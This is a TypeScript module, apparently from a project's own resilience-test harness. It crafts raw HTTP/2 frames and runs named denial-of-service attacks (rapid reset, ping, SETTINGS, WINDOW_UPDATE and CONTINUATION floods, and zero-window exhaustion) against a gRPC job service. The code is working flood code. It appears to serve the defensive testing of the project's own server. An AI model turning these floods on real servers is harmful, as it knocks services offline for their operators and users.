// Frames of HTTP/2 that no client sends.

import { constants } from "node:http2";
import { sleep, systemClock } from "../../services/shared/io/system-clock.js";
import { Tally, type Attack, type Outcome } from "./attack.js";
import { connection, drained, framed, open, rawConnection, type Door } from "./connection.js";

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const types = {
  data: 0,
  headers: 1,
  rst: 3,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
} as const;

function frame(
  type: keyof typeof types,
  flags: number,
  stream: number,
  body: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.length, 0, 3);
  head.writeUInt8(types[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
}

/** Sends the same again and again until it is let go or the time is over. Who does not read hears nothing. */
async function hammer(
  door: Door,
  seconds: number,
  isReading: boolean,
  next: (i: number) => Buffer,
): Promise<Outcome> {
  const never = new AbortController().signal;
  const tally = new Tally();
  const untilMs = systemClock.nowMs() + 1_000 * seconds;
  let sent = 0;
  while (systemClock.nowMs() < untilMs) {
    const socket = await rawConnection(door, "reader");
    tally.add("connections");
    if (isReading) socket.resume();
    socket.write(Buffer.concat([preface, frame("settings", 0, 0)]));
    for (let i = 0; systemClock.nowMs() < untilMs && !socket.destroyed; i += 1) {
      sent += 1;
      if (!socket.write(next(i))) await drained(socket);
      if (i % 8 === 0) await sleep(0, never);
    }
    tally.add(socket.destroyed ? "let go" : "left");
    socket.destroy();
  }
  return { did: `${sent} writes: ${tally.text()}`, findings: [] };
}

const thousand = (one: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: 1_000 }, (_, i) => one(i)));
const pings = thousand(() => frame("ping", 0, 0, Buffer.alloc(8)));
const settings = thousand(() => frame("settings", 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])));
const updates = thousand(() => frame("windowUpdate", 0, 0, Buffer.from([0, 0, 0, 1])));
const empties = thousand(() => frame("data", 0, 1));
const more = frame("continuation", 0, 1, Buffer.alloc(16_000, 0x40));

/** HEADERS and RST_STREAM, again and again. */
async function rapidReset(door: Door, seconds: number): Promise<Outcome> {
  const tally = new Tally();
  const untilMs = systemClock.nowMs() + 1_000 * seconds;
  const never = new AbortController().signal;
  while (systemClock.nowMs() < untilMs) {
    const session = connection(door, "reader");
    tally.add("connections");
    session.on("goaway", (code) =>
      tally.add(code === constants.NGHTTP2_ENHANCE_YOUR_CALM ? "told to be calm" : `GOAWAY ${code}`),
    );
    while (!session.destroyed && !session.closed && systemClock.nowMs() < untilMs) {
      for (let i = 0; i < 100; i += 1) {
        const stream = open(session, "/noctua.v1.JobService/ListJobs");
        stream.end(framed(Buffer.alloc(0)));
        stream.close(constants.NGHTTP2_CANCEL);
        tally.add("resets");
      }
      await sleep(0, never);
    }
    session.destroy();
  }
  return { did: tally.text(), findings: [] };
}

/** Asks for long answers and gives no room for them. */
async function zeroWindow(door: Door, seconds: number): Promise<Outcome> {
  const tally = new Tally();
  const untilMs = systemClock.nowMs() + 1_000 * seconds;
  const never = new AbortController().signal;
  let session = connection(door, "reader", { settings: { initialWindowSize: 0 } });
  while (systemClock.nowMs() < untilMs) {
    if (session.destroyed || session.closed) {
      tally.add("let go");
      session = connection(door, "reader", { settings: { initialWindowSize: 0 } });
    }
    for (let i = 0; i < 50; i += 1) {
      const stream = open(session, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo");
      const question = Buffer.concat([Buffer.from([0x22, 20]), Buffer.from("noctua.v1.JobService")]);
      stream.end(Buffer.concat(Array.from({ length: 10 }, () => framed(question))));
      stream.on("close", () => tally.add(`ended with ${stream.rstCode}`));
      tally.add("asked");
    }
    await sleep(5, never);
  }
  session.destroy();
  return { did: tally.text(), findings: [] };
}

export const frameAttacks: readonly Attack[] = [
  { name: "rapid-reset", run: (door, { seconds }) => rapidReset(door, seconds) },
  { name: "pings", run: (door, { seconds }) => hammer(door, seconds, true, () => pings) },
  { name: "pings-unread", run: (door, { seconds }) => hammer(door, seconds, false, () => pings) },
  { name: "settings", run: (door, { seconds }) => hammer(door, seconds, true, () => settings) },
  { name: "settings-unread", run: (door, { seconds }) => hammer(door, seconds, false, () => settings) },
  { name: "window-updates", run: (door, { seconds }) => hammer(door, seconds, true, () => updates) },
  { name: "empty-data", run: (door, { seconds }) => hammer(door, seconds, true, () => empties) },
  {
    name: "continuation",
    run: (door, { seconds }) =>
      hammer(door, seconds, true, (i) => (i === 0 ? frame("headers", 0, 1, Buffer.from([0x82])) : more)),
  },
  { name: "zero-window", run: (door, { seconds }) => zeroWindow(door, seconds) },
];
